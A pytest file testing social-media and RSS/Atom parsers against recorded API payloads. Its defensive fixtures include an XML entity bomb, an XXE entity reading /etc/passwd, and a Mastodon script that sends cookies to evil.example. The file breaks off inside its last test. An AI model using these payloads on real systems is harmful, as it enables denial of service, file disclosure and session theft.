"""The pure parsers against the real recorded payloads in ../shared/corpora (no network, no database).

X v2 (twarc2 search pages), Mastodon (rtoot: real public instances; Mastodon.py: a current 4.x server),
Bluesky (bskyr searchPosts and getPosts), Instagram (python-facebook Graph API hashtag pages) and RSS/Atom
(small feeds written here in the real formats, since the corpora hold none). Then what hostile or broken
input does: it is rejected with a reason (BadPayload), never expanded, never a crash.
"""

from __future__ import annotations

import copy
import html
import json
from datetime import UTC, datetime
from functools import cache
from pathlib import Path
from typing import Any

import pytest

from listener.errors import BadPayload
from listener.parsers.bluesky import parse_post_view, parse_search
from listener.parsers.common import clean_text, html_to_text
from listener.parsers.instagram import UNKNOWN_AUTHOR_PREFIX, parse_media, parse_media_page
from listener.parsers.mastodon import parse_status, parse_statuses
from listener.parsers.rss import parse_feed
from listener.parsers.x import Includes, parse_page, parse_tweet
from listener.post import Platform, PostKind
from tests.listener.cassettes import load_cassette

pytestmark = pytest.mark.corpora

SEEN_AT = datetime(2026, 11, 16, 9, 30, tzinfo=UTC)


# --- recorded material ----------------------------------------------------------------------------------


@cache
def _twarc(path: Path) -> dict[str, Any]:
    page: dict[str, Any] = json.loads(path.read_text(encoding="utf-8").splitlines()[0])
    page.pop("__twarc", None)
    return page


def twarc(corpora: Path, name: str) -> dict[str, Any]:
    """The first (only) page of a twarc2 JSONL file, as the API sent it (a fresh copy)."""
    return copy.deepcopy(_twarc(corpora / "twarc-csv-test-data" / f"{name}.jsonl"))


@cache
def _recorded(path: Path, index: int) -> Any:
    return load_cassette(path)[index].json()


def recorded(corpora: Path, cassette: str, index: int = 0) -> Any:
    """The JSON body of one recorded interaction (a fresh copy)."""
    return copy.deepcopy(_recorded(corpora / cassette, index))


def instagram(corpora: Path, name: str) -> dict[str, Any]:
    data: dict[str, Any] = json.loads((corpora / "python-facebook-instagram" / f"{name}.json").read_text("utf-8"))
    return data


FOSSTODON = "rtoot-fixtures/get_timeline_hashtag_default.yml"
MASTODON_SOCIAL = "rtoot-fixtures/get_timeline_hashtag_instance.yml"
PUBLIC_TL = "rtoot-fixtures/get_timeline_public_default.yml"


def retweets(page: dict[str, Any]) -> dict[str, str]:
    """retweet id -> retweeted id, for the retweets whose original the page includes."""
    included = {t["id"] for t in page["includes"].get("tweets", [])}
    out = {}
    for tweet in page["data"]:
        for ref in tweet.get("referenced_tweets", []):
            if ref["type"] == "retweeted" and ref["id"] in included:
                out[tweet["id"]] = ref["id"]
    return out


# --- X API v2 -------------------------------------------------------------------------------------------


@pytest.mark.parametrize("name", ["brexit", "kpop", "media_policy_violation_off"])
def test_x_page_gives_every_tweet_and_the_originals_of_its_retweets(corpora: Path, name: str) -> None:
    page = twarc(corpora, name)
    data_ids = {t["id"] for t in page["data"]}
    originals = set(retweets(page).values())

    parsed = parse_page(page, query="#test")

    ids = [p.platform_id for p in parsed.posts]
    assert len(ids) == len(set(ids))  # an original retweeted twice is still one post
    assert set(ids) == data_ids | originals
    assert len(ids) == len(page["data"]) + len(originals - data_ids)
    assert parsed.rejected == []
    assert parsed.next_token == page["meta"]["next_token"]
    assert parsed.newest_id == page["meta"]["newest_id"]
    assert {p.platform for p in parsed.posts} == {Platform.X}
    assert {p.query for p in parsed.posts} == {"#test"}


def test_x_counts_of_the_recorded_pages(corpora: Path) -> None:
    # The figures documented for these recordings: a parser change that loses tweets shows here.
    counts = {name: len(parse_page(twarc(corpora, name)).posts) for name in ("brexit", "kpop")}
    assert counts == {"brexit": 135, "kpop": 121}
    kpop = twarc(corpora, "kpop")
    assert kpop["errors"]  # a page with errors[] is still read in full
    assert len(parse_page(kpop).rejected) == 0


def test_x_retweet_is_a_repost_by_the_retweeter_and_the_original_is_whole(corpora: Path) -> None:
    page = twarc(corpora, "brexit")
    included = {t["id"]: t for t in page["includes"]["tweets"]}
    users = {u["id"]: u for u in page["includes"]["users"]}
    posts = {p.platform_id: p for p in parse_page(page).posts}
    pairs = retweets(page)
    assert len(pairs) >= 30

    for retweet_id, original_id in pairs.items():
        repost, original = posts[retweet_id], posts[original_id]
        retweet = next(t for t in page["data"] if t["id"] == retweet_id)
        assert repost.kind is PostKind.REPOST
        assert repost.repost_of_id == original_id
        assert repost.author.platform_id == retweet["author_id"]
        assert original.kind is not PostKind.REPOST or original.repost_of_id != original_id
        assert original.author.platform_id == included[original_id]["author_id"]
        assert original.text == html.unescape(included[original_id]["text"])
        if original.author.platform_id in users:
            assert original.author.handle == users[original.author.platform_id]["username"]


def test_x_authors_carry_follower_counts_from_includes_users(corpora: Path) -> None:
    page = twarc(corpora, "kpop")
    users = {u["id"]: u for u in page["includes"]["users"]}
    posts = {p.platform_id: p for p in parse_page(page).posts}

    for tweet in page["data"]:
        author = posts[tweet["id"]].author
        user = users[tweet["author_id"]]
        assert author.followers == user["public_metrics"]["followers_count"]
        assert author.handle == user["username"]
        assert author.display_name == html.unescape(user["name"])
        assert posts[tweet["id"]].url == f"https://x.com/{user['username']}/status/{tweet['id']}"

    tweet = page["data"][0]
    alone = parse_tweet(tweet, Includes())  # the page did not expand its author
    assert (alone.author.platform_id, alone.author.handle, alone.author.followers) == (tweet["author_id"], "", None)


def test_x_metrics_and_impressions_when_present(corpora: Path) -> None:
    with_views = twarc(corpora, "cashtags")
    [tweet] = with_views["data"]
    [post] = parse_page(with_views).posts
    metrics = tweet["public_metrics"]
    assert post.metrics.views == metrics["impression_count"]
    assert post.metrics.likes == metrics["like_count"]
    assert post.metrics.reposts == metrics["retweet_count"]
    assert post.metrics.replies == metrics["reply_count"]
    assert post.metrics.quotes == metrics["quote_count"]

    for post in parse_page(twarc(corpora, "brexit")).posts:
        assert post.metrics.views is None  # not reported in 2021: unknown, not 0
        assert post.metrics.likes is not None


def test_x_text_is_unescaped_and_arabic_kept_byte_for_byte(corpora: Path) -> None:
    for name in ("brexit", "media_policy_violation_off"):
        page = twarc(corpora, name)
        posts = {p.platform_id: p for p in parse_page(page).posts}
        escaped = [t for t in page["data"] if "&amp;" in t["text"]]
        assert escaped, name
        for tweet in escaped:
            assert "&amp;" not in posts[tweet["id"]].text
            assert posts[tweet["id"]].text == html.unescape(tweet["text"])

    page = twarc(corpora, "media_policy_violation_off")
    posts = {p.platform_id: p for p in parse_page(page).posts}
    arabic = [t for t in page["data"] if t["lang"] == "ar"]
    assert len(arabic) == 10
    for tweet in arabic:
        post = posts[tweet["id"]]
        assert post.text.encode("utf-8") == html.unescape(tweet["text"]).encode("utf-8")
        assert post.language_hint == "ar"
        assert any("\u0600" <= c <= "\u06ff" for c in post.text)


def test_x_hashtags_mentions_and_urls_come_from_entities(corpora: Path) -> None:
    page = twarc(corpora, "brexit")
    posts = {p.platform_id: p for p in parse_page(page).posts}
    tagged = [t for t in page["data"] if t.get("entities", {}).get("hashtags")]
    assert len(tagged) == 77
    for tweet in tagged:
        assert posts[tweet["id"]].hashtags == tuple(h["tag"] for h in tweet["entities"]["hashtags"])
    for tweet in page["data"]:
        mentions = tweet.get("entities", {}).get("mentions", [])
        assert posts[tweet["id"]].mentions == tuple(m["username"] for m in mentions)


def test_x_a_tweet_without_author_is_rejected_and_the_rest_kept(corpora: Path) -> None:
    page = twarc(corpora, "kpop")
    broken = page["data"][5]
    del broken["author_id"]

    parsed = parse_page(page)

    [rejected] = parsed.rejected
    assert rejected.item == broken  # the item as sent (a cleaned copy when cleaning was needed)
    assert "author_id" in rejected.error
    assert broken["id"] not in {p.platform_id for p in parsed.posts}
    with pytest.raises(BadPayload):
        parse_page(["not", "a", "page"])


# --- Mastodon -------------------------------------------------------------------------------------------


def test_mastodon_html_becomes_text_and_hashtag_links_are_not_urls(corpora: Path) -> None:
    statuses = recorded(corpora, FOSSTODON)
    parsed = parse_statuses(statuses, query="#rstats", instance="https://fosstodon.org")

    assert (len(parsed.posts), parsed.rejected) == (5, [])
    assert parsed.newest_id == statuses[0]["id"]
    for status, post in zip(statuses, parsed.posts, strict=True):
        assert post.platform is Platform.MASTODON
        assert post.platform_id == status["uri"]
        assert post.url == status["url"]
        assert "<" not in post.text
        assert "#rstats" in post.text.casefold()
        assert "rstats" in [t.casefold() for t in post.hashtags]
        assert not any("/tags/" in u for u in post.urls)
        assert post.author.followers == status["account"]["followers_count"]
        assert post.author.platform_id == status["account"]["uri"]
        assert post.raw is not None
        assert post.raw["_instance"] == "https://fosstodon.org"
    first = parsed.posts[0]
    blog = "https://www.simonpcouch.com/blog/2025-07-17-claude-code-2/"
    assert first.urls == (blog,)
    assert blog in first.text  # the "invisible" spans are part of the link text
    assert first.text.startswith("After a month or so")
    assert first.author.handle == "simonpcouch@rstats.me"
    assert first.metrics.likes == 1
    assert first.media[0].kind == "image"
    assert first.media[0].alt_text is not None


def test_mastodon_mentions_are_not_urls_and_entities_are_decoded(corpora: Path) -> None:
    statuses = recorded(corpora, PUBLIC_TL)
    posts = {p.platform_id: p for p in parse_statuses(statuses).posts}
    assert len(posts) == 20
    mls = posts["https://sportsbots.xyz/users/MLS/statuses/1945936961954259215"]
    assert "@MichelobULTRA@twitter.com" in mls.text
    assert mls.urls == ()  # the h-card mention link is not a link of the post
    star_trek = next(p for p in posts.values() if "AllStarTrek" in p.text)
    assert "H&I network" in star_trek.text  # &amp; decoded
    assert "allstartrek@a.gup.pe" in star_trek.mentions
    japanese = next(p for p in posts.values() if p.language_hint == "ja")
    assert "大分県" in japanese.text
    assert "気象情報" in japanese.hashtags

    local = parse_statuses(recorded(corpora, "mastodon-py-cassettes/test_public_tl.yaml", 2)).posts
    assert "you can't say that on television" in {p.text for p in local}
    jeep = next(p for p in local if "jeep" in p.text)
    assert (jeep.text, jeep.urls, jeep.mentions) == ("@mastodonpy_test beep beep I'm a jeep", (), ("mastodonpy_test",))
    # A local account's acct has no domain: the account URL gives it.
    assert jeep.author.handle == "admin@localhost"

    [hoot] = parse_statuses(recorded(corpora, "mastodon-py-cassettes/test_hashtag_tl.yaml", 2)).posts
    assert (hoot.text, hoot.hashtags, hoot.urls) == ("#hoot (hashtag toot)", ("hoot",), ())


def test_mastodon_card_and_plain_links_are_urls(corpora: Path) -> None:
    status = recorded(corpora, "rtoot-fixtures/get_status_default.yml")
    post = parse_status(status)
    assert status["card"]["url"] in post.urls
    assert "maelle@mastodon.social" in post.mentions
    assert not any("/tags/" in u or "@maelle" in u for u in post.urls)

    card = parse_status(recorded(corpora, "mastodon-py-cassettes/test_status_card.yaml", 1))
    assert card.urls == ("http://example.org/",)  # the link and its card are one URL
    assert card.text == "http://example.org/"


def test_the_same_status_on_two_instances_has_one_platform_id(corpora: Path) -> None:
    fosstodon, social = recorded(corpora, FOSSTODON), recorded(corpora, MASTODON_SOCIAL)
    assert {s["id"] for s in fosstodon}.isdisjoint({s["id"] for s in social})  # local ids differ

    a = parse_statuses(fosstodon, instance="https://fosstodon.org").posts
    b = parse_statuses(social, instance="https://mastodon.social").posts

    assert [p.platform_id for p in a] == [p.platform_id for p in b]
    assert [p.author.platform_id for p in a] == [p.author.platform_id for p in b]
    # mastodon.social's own account has a bare acct there and a full one on fosstodon: one handle.
    assert [p.author.handle for p in a] == [p.author.handle for p in b]
    assert "useR_conf@mastodon.social" in {p.author.handle for p in b}


def test_a_boost_gives_the_boosters_repost_and_the_original(corpora: Path) -> None:
    original = recorded(corpora, FOSSTODON)[0]
    booster_status = recorded(corpora, MASTODON_SOCIAL)[1]  # useR_conf boosts Simon's status
    boost = {
        **booster_status,
        "id": "114870200000000001",
        "uri": f"{booster_status['account']['uri']}/statuses/114870200000000001/activity",
        "url": None,
        "content": "",  # Mastodon sends an empty content for a boost; the text is the original's
        "tags": [],
        "created_at": "2025-07-17T19:30:00.000Z",
        "reblog": original,
    }

    parsed = parse_statuses([boost], query="#rstats")

    repost, kept = parsed.posts
    assert repost.kind is PostKind.REPOST
    assert repost.platform_id == boost["uri"]
    assert repost.repost_of_id == original["uri"] == kept.platform_id
    assert repost.author.platform_id == booster_status["account"]["uri"]
    assert repost.author.handle == "useR_conf@mastodon.social"
    assert repost.text == kept.text
    assert repost.created_at == datetime(2025, 7, 17, 19, 30, tzinfo=UTC)
    assert kept.kind is PostKind.ORIGINAL
    assert kept.author.platform_id == original["account"]["uri"]
    assert kept.metrics.likes == original["favourites_count"]
    assert repost.metrics.likes is None  # a boost's own engagement is not reported


# --- Bluesky --------------------------------------------------------------------------------------------


def test_bluesky_search_page(corpora: Path) -> None:
    page = recorded(corpora, "bskyr-vcr/f_search.yml")
    parsed = parse_search(page, query="redistricting")

    assert (len(parsed.posts), parsed.rejected, parsed.next_token) == (25, [], "25")
    for view, post in zip(page["posts"], parsed.posts, strict=True):
        assert post.platform is Platform.BLUESKY
        assert post.platform_id == view["uri"]
        assert post.text == view["record"]["text"].replace("\r\n", "\n")  # one line-end convention
        assert post.author.platform_id == view["author"]["did"]
        assert post.author.handle == view["author"]["handle"]
        assert post.author.followers is None  # search results do not say: unknown, never 0
        assert post.metrics.likes == view["likeCount"]
        assert post.metrics.reposts == view["repostCount"]
        assert post.url == f"https://bsky.app/profile/{view['author']['handle']}/post/{view['uri'].rsplit('/', 1)[-1]}"
        links = [f["features"][0]["uri"] for f in view["record"].get("facets", [])
                 if f["features"][0]["$type"].endswith("#link")]  # fmt: skip
        assert set(links) <= set(post.urls)
        assert post.language_hint == (view["record"].get("langs") or [None])[0]
    assert sum(1 for p in parsed.posts if p.language_hint == "en") == 21


def test_bluesky_facets_give_hashtags_links_embeds_and_quotes(corpora: Path) -> None:
    page = recorded(corpora, "bskyr-vcr/f_search.yml")
    posts = {p.platform_id.rsplit("/", 1)[-1]: p for p in parse_search(page).posts}
    views = {v["uri"].rsplit("/", 1)[-1]: v for v in page["posts"]}

    tagged = posts["3lpica7sxmk2u"]
    assert tagged.hashtags == ("txlege",)
    assert tagged.urls == ("https://drive.google.com/file/d/1wZ7W8GA3EuJuAhpZWL8We4AyfVe8fjki/view?usp=sharing",)
    assert [m.kind for m in tagged.media] == ["photo"]
    assert tagged.media[0].url is not None
    assert "feed_fullsize" in tagged.media[0].url

    external = posts["3lpk2r5h5ec2j"]
    card = views["3lpk2r5h5ec2j"]["embed"]["external"]["uri"]
    assert card in external.urls
    assert len(external.urls) == len(set(external.urls))  # the facet link and its card: listed once

    quoting = posts["3lpikwarowc2o"]
    assert quoting.quote_of_id == "at://did:plc:7nagdvjqrzaquzk7mueohne5/app.bsky.feed.post/3lpica7sxmk2u"
    assert quoting.kind is PostKind.QUOTE


def test_bluesky_facet_offsets_are_utf8_bytes_not_characters(corpora: Path) -> None:
    page = recorded(corpora, "bskyr-vcr/f_search.yml")
    view = next(v for v in page["posts"] if v["uri"].endswith("3lpjy3eabqs2l"))
    text: str = view["record"]["text"]
    assert "🧵" in text  # 1 character, 4 bytes: character offsets would be off by 3
    [link] = view["record"]["facets"]
    start, end = link["index"]["byteStart"], link["index"]["byteEnd"]
    assert text.encode()[start:end].decode() == "drive.google.com/file/d/1PvWo..."
    assert text[start:end] != "drive.google.com/file/d/1PvWo..."

    # A mention after the emoji: its handle is read from the bytes the facet covers.
    prefix = text + " cc "
    view["record"]["text"] = prefix + "@mcpli.bsky.social"
    start = len(prefix.encode("utf-8"))
    view["record"]["facets"].append(
        {
            "index": {"byteStart": start, "byteEnd": start + len("@mcpli.bsky.social")},
            "features": [{"$type": "app.bsky.richtext.facet#mention", "did": "did:plc:7nagdvjqrzaquzk7mueohne5"}],
        }
    )
    post = parse_post_view(view)
    assert post.mentions == ("mcpli.bsky.social",)
    assert post.urls[0] == link["features"][0]["uri"]


def test_bluesky_get_posts_response_and_images_embedded_in_the_record(corpora: Path) -> None:
    page = recorded(corpora, "bskyr-vcr/f_getposts.yml")
    parsed = parse_search(page)
    [post] = parsed.posts
    assert parsed.next_token is None
    assert post.urls == ("http://localview.net", "https://rstats.ai/gov.html")
    assert "✨#rstats #rgov" in post.text
    assert post.created_at == datetime(2023, 9, 19, 11, 32, 54, 574000, tzinfo=UTC)


# --- Instagram ------------------------------------------------------------------------------------------


def test_instagram_recent_media_pages_and_their_cursor(corpora: Path) -> None:
    first = parse_media_page(instagram(corpora, "hashtag_recent_medias_p1"), SEEN_AT, query="#developers")
    last = parse_media_page(instagram(corpora, "hashtag_recent_medias_p2"), SEEN_AT)

    assert (len(first.posts), first.next_token) == (5, "after")
    assert (len(last.posts), last.next_token) == (5, None)
    for post in first.posts + last.posts:
        assert post.platform is Platform.INSTAGRAM
        assert post.author.platform_id == f"{UNKNOWN_AUTHOR_PREFIX}{post.platform_id}"
        assert (post.author.handle, post.author.followers) == ("", None)
        # These pages were requested without `timestamp`: the time first seen stands in, and says so.
        assert post.created_at == SEEN_AT
        assert post.raw is not None
        assert post.raw["_created_at_is_seen_at"] is True
        assert post.metrics.likes is not None
    authors = [p.author.platform_id for p in first.posts + last.posts]
    assert len(set(authors)) == len(authors)  # one unknown author per media, not one prolific one


def test_instagram_paging_cursor_only_when_next_exists(corpora: Path) -> None:
    page = instagram(corpora, "hashtag_top_medias_p1")
    assert parse_media_page(page, SEEN_AT).next_token == "after"
    del page["paging"]["next"]  # cursors without `next`: Meta's way of saying "last page"
    assert page["paging"]["cursors"]["after"] == "after"
    assert parse_media_page(page, SEEN_AT).next_token is None
    assert parse_media_page(instagram(corpora, "hashtag_top_medias_p2"), SEEN_AT).next_token is None


def test_instagram_top_media_captions(corpora: Path) -> None:
    page = instagram(corpora, "hashtag_top_medias_p1")
    parsed = parse_media_page(page, SEEN_AT)
    assert (len(parsed.posts), parsed.rejected) == (25, [])
    first = parsed.posts[0]
    item = page["data"][0]
    assert first.text == item["caption"]
    assert "makkah__madinah" in first.hashtags
    assert first.url == item["permalink"]
    assert first.media[0].url == item["media_url"]
    assert (first.metrics.likes, first.metrics.replies) == (item["like_count"], item["comments_count"])
    for post, item in zip(parsed.posts, page["data"], strict=True):
        assert post.text == item.get("caption", "")

    timed = parse_media({**item, "timestamp": "2026-11-16T08:15:00+0000"}, SEEN_AT)
    assert timed.created_at == datetime(2026, 11, 16, 8, 15, tzinfo=UTC)
    assert timed.raw is not None
    assert "_created_at_is_seen_at" not in timed.raw


# --- RSS and Atom ---------------------------------------------------------------------------------------

RSS = """<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/"
     xmlns:dc="http://purl.org/dc/elements/1.1/">
  <channel>
    <title>Le Journal du Quartier</title>
    <link>https://journal.example/</link>
    <description>Actualités locales</description>
    <item>
      <title>La boulangerie des Trois Épis fête ses 10 ans #LoveLocal</title>
      <link>https://journal.example/2026/11/trois-epis</link>
      <guid isPermaLink="false">journal-2026-1116-001</guid>
      <pubDate>Mon, 16 Nov 2026 08:00:00 +0100</pubDate>
      <dc:creator>Claire Martin</dc:creator>
      <description>Résumé court.</description>
      <content:encoded><![CDATA[<p>Une fête pour <a href="https://troisepis.example/">les Trois Épis</a>
        &amp; leurs clients.</p><script>document.write('tracker')</script><p>مخبز الأمل aussi.</p>]]></content:encoded>
    </item>
    <item>
      <title>Sans guid</title>
      <link>https://journal.example/2026/11/sans-guid</link>
      <pubDate>Mon, 16 Nov 2026 07:00:00 GMT</pubDate>
      <description>&lt;b&gt;Gras&lt;/b&gt; et texte.</description>
    </item>
    <item>
      <title>Ni guid ni lien</title>
      <description>Rien pour l'identifier.</description>
    </item>
  </channel>
</rss>
"""

ATOM = """<?xml version="1.0" encoding="utf-8"?>
<feed xmlns="http://www.w3.org/2005/Atom">
  <title>Blog des commerçants</title>
  <id>urn:uuid:60a76c80-d399-11d9-b93C-0003939e0af6</id>
  <updated>2026-11-16T10:00:00Z</updated>
  <entry>
    <title type="html">Soutenons nos TPE &amp;amp; PME</title>
    <link rel="alternate" href="https://blog.example/soutenons"/>
    <link rel="edit" href="https://blog.example/admin/1"/>
    <id>urn:uuid:1225c695-cfb8-4ebb-aaaa-80da344efa6a</id>
    <updated>2026-11-16T09:45:00+01:00</updated>
    <author><name>Karim B.</name></author>
    <content type="html">&lt;p&gt;#SoutenonsnosTPEPME chez &lt;a href="https://epicerie.example"&gt;l'épicerie&lt;/a&gt;&lt;/p&gt;</content>
  </entry>
  <entry>
    <title>Résumé seulement</title>
    <id>tag:blog.example,2026:2</id>
    <published>2026-11-15T18:00:00Z</published>
    <updated>2026-11-16T09:00:00Z</updated>
    <summary>Un résumé.</summary>
  </entry>
</feed>
"""

FEED_URL = "https://journal.example/feed.xml"


def test_rss_items_become_posts() -> None:
    parsed = parse_feed(RSS.encode("utf-8"), FEED_URL, SEEN_AT, query="#LoveLocal")

    first, second = parsed.posts
    [rejected] = parsed.rejected
    assert "no guid, id or link" in rejected.error
    assert "Ni guid ni lien" in rejected.item
    assert first.platform is Platform.RSS
    assert first.platform_id.startswith(FEED_URL)
    assert first.url == "https://journal.example/2026/11/trois-epis"
    assert first.created_at == datetime(2026, 11, 16, 7, 0, tzinfo=UTC)
    assert first.author.platform_id == FEED_URL
    assert first.author.handle == "Le Journal du Quartier"
    assert first.author.display_name == "Claire Martin"
    assert first.text.startswith(
        "La boulangerie des Trois Épis fête ses 10 ans #LoveLocal\n\nUne fête pour les Trois Épis"
    )
    assert "& leurs clients." in first.text
    assert "مخبز الأمل aussi." in first.text
    assert "tracker" not in first.text
    assert "document.write" not in first.text
    assert first.urls == ("https://journal.example/2026/11/trois-epis", "https://troisepis.example/")
    assert first.query == "#LoveLocal"
    assert second.created_at == datetime(2026, 11, 16, 7, 0, tzinfo=UTC)
    assert second.text == "Sans guid\n\nGras et texte."
    assert second.platform_id != first.platform_id

    again = parse_feed(RSS.encode("utf-8"), FEED_URL, SEEN_AT)
    assert [p.platform_id for p in again.posts] == [p.platform_id for p in parsed.posts]  # stable ids
    other = parse_feed(RSS.encode("utf-8"), "https://mirror.example/feed.xml", SEEN_AT)
    assert {p.platform_id for p in other.posts}.isdisjoint({p.platform_id for p in parsed.posts})


def test_atom_entries_become_posts() -> None:
    parsed = parse_feed(ATOM.encode("utf-8"), "https://blog.example/atom.xml", SEEN_AT)

    assert parsed.rejected == []
    entry, summary_only = parsed.posts
    assert entry.url == "https://blog.example/soutenons"  # the alternate link, not the edit link
    assert entry.created_at == datetime(2026, 11, 16, 8, 45, tzinfo=UTC)
    assert entry.text == "Soutenons nos TPE & PME\n\n#SoutenonsnosTPEPME chez l'épicerie"
    assert entry.author.display_name == "Karim B."
    assert entry.author.handle == "Blog des commerçants"
    assert "https://epicerie.example" in entry.urls
    assert summary_only.url is None
    assert summary_only.created_at == datetime(2026, 11, 15, 18, 0, tzinfo=UTC)  # published wins over updated
    assert summary_only.text == "Résumé seulement\n\nUn résumé."
    assert summary_only.raw is not None
    assert summary_only.raw["id"] == "tag:blog.example,2026:2"


def test_rss_dates_in_every_zone_form() -> None:
    def item(guid: str, date: str) -> str:
        return f"<item><guid>{guid}</guid><title>{guid}</title><pubDate>{date}</pubDate></item>"

    body = (
        '<rss version="2.0"><channel><title>t</title>'
        + item("utc-unknown-zone", "Mon, 16 Nov 2026 08:00:00 -0000")
        + item("no-zone", "Mon, 16 Nov 2026 08:00:00")
        + item("named-zone", "Mon, 16 Nov 2026 03:00:00 EST")
        + item("iso", "2026-11-16T09:00:00+01:00")
        + item("garbage", "hier soir")
        + "</channel></rss>"
    )
    parsed = parse_feed(body.encode(), FEED_URL, SEEN_AT)
    assert [p.created_at for p in parsed.posts] == [datetime(2026, 11, 16, 8, 0, tzinfo=UTC)] * 4
    [rejected] = parsed.rejected
    assert "hier soir" in rejected.error


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE rss [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
  <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
  <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
  <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
  <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
  <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<rss version="2.0"><channel><title>&lol9;</title>
<item><guid>1</guid><title>&lol9;</title></item></channel></rss>
"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<rss version="2.0"><channel><title>feed</title>
<item><guid>1</guid><title>leak</title><description>&secret;</description></item></channel></rss>
"""


@pytest.mark.parametrize(("body", "entity"), [(BILLION_LAUGHS, "lol"), (EXTERNAL_ENTITY, "secret")])
def test_hostile_feeds_raise_bad_payload_and_expand_nothing(body: bytes, entity: str) -> None:
    with pytest.raises(BadPayload) as caught:
        parse_feed(body, FEED_URL, SEEN_AT)
    message = str(caught.value)
    assert "EntitiesForbidden" in message
    assert entity in message
    assert "lollol" not in message
    assert "root:" not in message


@pytest.mark.parametrize(
    ("body", "reason"),
    [
        (b"", "not a readable RSS or Atom document"),
        (b"<rss><channel><title>cut", "not a readable RSS or Atom document"),
        (b'{"items": []}', "not a readable RSS or Atom document"),
        (b"<html><body>Moved</body></html>", "neither RSS nor Atom"),
    ],
)
def test_what_is_not_a_feed_is_bad_payload(body: bytes, reason: str) -> None:
    with pytest.raises(BadPayload, match=reason):
        parse_feed(body, FEED_URL, SEEN_AT)


# --- bad input ------------------------------------------------------------------------------------------


def test_a_status_without_uri_is_rejected_and_the_rest_of_the_page_kept(corpora: Path) -> None:
    statuses = recorded(corpora, FOSSTODON)
    broken = statuses[2]
    del broken["uri"]

    parsed = parse_statuses(statuses)

    assert len(parsed.posts) == 4
    [rejected] = parsed.rejected
    assert rejected.item is broken
    assert "uri" in rejected.error
    with pytest.raises(BadPayload, match="uri"):
        parse_status(broken)
    with pytest.raises(BadPayload, match="JSON array"):
        parse_statuses({"error": "Record not found"})


def test_a_post_view_without_record_is_rejected(corpora: Path) -> None:
    page = recorded(corpora, "bskyr-vcr/f_search.yml")
    broken = page["posts"][3]
    del broken["record"]
    page["posts"][4]["author"] = "did:plc:not-an-object"

    parsed = parse_search(page)

    assert len(parsed.posts) == 23
    assert [r.item for r in parsed.rejected] == [broken, page["posts"][4]]
    assert "record" in parsed.rejected[0].error
    with pytest.raises(BadPayload):
        parse_search({"error": "InvalidRequest"})


def test_instagram_media_without_id_is_rejected(corpora: Path) -> None:
    page = instagram(corpora, "hashtag_recent_medias_p1")
    del page["data"][0]["id"]
    page["data"][1]["caption"] = {"not": "text"}
    parsed = parse_media_page(page, SEEN_AT)
    assert len(parsed.posts) == 3
    assert len(parsed.rejected) == 2
    with pytest.raises(BadPayload):
        parse_media_page({"error": {"message": "Invalid OAuth access token.", "code": 190}}, SEEN_AT)


def test_script_and_style_in_mastodon_html_are_dropped(corpora: Path) -> None:
    status = recorded(corpora, FOSSTODON)[0]
    status["content"] = (
        '<p>Bonjour <script type="text/javascript">fetch("https://evil.example/?c="+document.cookie)</script>'
        "<style>p { display: none }</style>tout le monde &lt;script&gt; reste du texte</p>"
        '<p><a href="javascript:alert(1)" onclick="steal()">clic</a></p>'
    )
    post = parse_status(status)
    assert "evil.example" not in post.text
    assert "document.cookie" not in post.text
    assert "display" not in post.text
    assert post.text == "Bonjour tout le monde <script> reste du texte\n\nclic"  # escaped text stays text


def test_control_characters_are_stripped_and_line_ends_unified(corpora: Path) -> None:
    assert clean_text("a\x00b\x07c\x1bd\x7fe\r\nf\rg\th") == "abcde\nf\ng\th"
    status = recorded(corpora, FOSSTODON)[0]
    status["content"] = "<p>Nul\x00 et cloche\x07 et échappement\x1b[31m</p>"
    status["account"]["display_name"] = "Simon\x00 P.\x08 Couch"
    post = parse_status(status)
    assert post.text == "Nul et cloche et échappement[31m"
    assert post.author.display_name == "Simon P. Couch"
    assert html_to_text("a&#0;b&#7;c")[0] == "a\ufffdbc"  # a NUL reference is U+FFFD by the HTML rules


def _utf8(value: Any) -> bytes:
    """What a database receives: the value as UTF-8 JSON (fails on a lone surrogate)."""
    return json.dumps(value, ensure_ascii=False).encode("utf-8")


def test_lone_surrogates_do_not_crash_and_are_storable(corpora: Path) -> None:
    # json.loads accepts "\ud83d" alone (a half emoji, as truncating clients send): Python keeps it.
    status = recorded(corpora, FOSSTODON)[0]
    status["content"] = json.loads('"<p>caf\\u00e9 \\ud83d fin</p>"')
    status["account"]["display_name"] = json.loads('"Simon \\udc00"')
    post = parse_status(status)
    assert post.text.startswith("café ")
    assert post.text.endswith(" fin")
    _utf8([post.text, post.author.display_name, post.raw])

    view = recorded(corpora, "bskyr-vcr/f_search.yml")["posts"][0]
    view["record"]["text"] = json.loads('"Redistricting \\udfff \\u0000 now"')
    view["author"]["displayName"] = json.loads('"\\ud800"')
    bsky = parse_post_view(view)
    assert "Redistricting" in bsky.text
    assert "\x00" not in bsky.text
    _utf8([bsky.text, bsky.author.display_name, bsky.raw])

    item = instagram(corpora, "hashtag_top_medias_p1")["data"][0]
    item["caption"] = json.loads('"#LoveLocal \\ud83c"')
    media = parse_media(item, SEEN_AT)
    assert media.hashtags == ("LoveLocal",)
    _utf8([media.text, media.raw])

    page = twarc(corpora, "kpop")
